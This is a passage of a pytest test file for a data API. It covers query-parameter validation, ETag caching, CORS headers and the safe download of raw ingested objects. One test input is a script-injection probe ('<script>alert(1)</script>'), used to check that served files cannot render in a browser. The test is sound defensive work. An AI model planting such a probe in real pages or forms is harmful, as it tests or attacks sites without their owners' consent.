    get("/sources", parameters | {"cursor": body["cursor"]})
    asked = data.asked[1]["request"]
    assert (asked.prefix, asked.state, asked.limit, asked.cursor) == ("b", SourceState.SILENT, 1, f".{name}")


@pytest.mark.parametrize(
    ("parameters", "broken"),
    [
        ({"state": "dead"}, ("state", "request.invalid")),
        ({"prefix": "x" * 201}, ("prefix", "request.out_of_range")),
        ({"prefix": "\0"}, ("prefix", "request.invalid")),
        ({"cursor": "a"}, ("cursor", "request.invalid")),
        ({"limit": "1001"}, ("limit", "request.out_of_range")),
    ],
)
def test_bad_parameters_of_sources(get: Get, parameters: dict[str, str], broken: tuple[str, str]) -> None:
    assert refused(get("/sources", parameters)) == [broken]


# ---- caches ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/measurements", "/kpis", "/quality", "/measurements/2026-03-04T12:00Z"])
def test_what_the_client_has_is_not_sent_again_until_it_changes(get: Get, data: Data, path: str) -> None:
    data.standing, data.kpi = [standing(0)], [KPI]
    data.qualities = [Quality(NOON, NOON + timedelta(minutes=1), "a", arrivals())]
    parameters = {} if path.startswith("/measurements") else {"to": "2026-03-04T12:00Z"}
    first = get(path, parameters)
    tag = header(first, "ETag")
    assert tag is not None
    assert header(first, "Cache-Control") == "private, no-cache"

    assert tag.startswith('W/"'), "covers the body compressed and not"
    for given in (tag, tag.removeprefix("W/"), f'"other", {tag}', "*"):
        again = get(path, parameters, If_None_Match=given)
        assert (again["statusCode"], again["body"]) == (304, "")
        assert header(again, "ETag") == tag
        assert header(again, "Cache-Control") == "private, no-cache"
    assert get(path, parameters, If_None_Match='"other"')["statusCode"] == 200

    data.standing, data.kpi = [standing(1)], [BARE]
    data.qualities = [Quality(NOON, NOON + timedelta(minutes=1), "b", arrivals())]
    assert get(path, parameters, If_None_Match=tag)["statusCode"] == 200


def test_a_page_of_another_origin_reads_the_headers_and_its_caches_tell_forms_apart(
    get: Get, data: Data, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CORS_ORIGIN", "https://app.example.com")
    data.standing = [standing(0)]

    answer = get("/measurements")

    assert header(answer, "Vary") == "Accept, Accept-Encoding, Origin"
    exposed = header(answer, "Access-Control-Expose-Headers")
    assert exposed is not None
    assert {"ETag", "Link", "Content-Disposition"} <= set(exposed.split(", "))


# ---- objects as they were received -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "content_type", "encoding"),
    [
        (b'{"time_stamp": 1}', "application/json; charset=utf-8", ""),
        (bytes(range(256)), "application/x-ndjson", "gzip"),
        (b"<script>alert(1)</script>", "text/html", ""),
        (b"", "", ""),
        (b"x" * 4_500_000, "application/json", ""),
    ],
)
def test_an_object_comes_as_it_was_received_and_no_browser_shows_it(
    get: Get, data: Data, body: bytes, content_type: str, encoding: str
) -> None:
    identifier = raw_id()
    data.objects[identifier] = RawObject(identifier, body, content_type, "", encoding)

    answer = get(f"/ingest/{identifier}/raw", Accept_Encoding="gzip")

    assert answer["statusCode"] == 200
    assert answer["isBase64Encoded"] is True
    assert base64.b64decode(answer["body"]) == body
    assert header(answer, "Content-Type") == (content_type or "application/octet-stream")
    assert header(answer, "Vary") is None
    assert header(answer, "Content-Encoding") == (encoding or None)
    assert header(answer, "Content-Disposition") == f'attachment; filename="{identifier}.json"'
    assert header(answer, "X-Content-Type-Options") == "nosniff"
    assert header(answer, "Content-Security-Policy") == "default-src 'none'; sandbox"
    assert header(answer, "Cache-Control") == "private, max-age=86400, immutable"
    again = get(f"/ingest/{identifier}/raw", If_None_Match=header(answer, "ETag") or "")
    assert (again["statusCode"], again["body"]) == (304, "")


def test_objects_that_are_not_there_and_a_bronze_that_is_not(get: Get, data: Data) -> None:
    gone, unread = raw_ids(2)
    data.objects[unread] = BronzeUnavailableError("S3 answered 503")

    assert refused(get(f"/ingest/{gone}/raw"), 404) == []
    assert refused(get(f"/ingest/{gone}/raw", If_None_Match=f'"{gone}"'), 404) == []
    assert refused(get(f"/ingest/{unread}/raw"), 503) == []
    assert refused(get("/ingest/1/raw")) == [("raw_id", "request.invalid")]
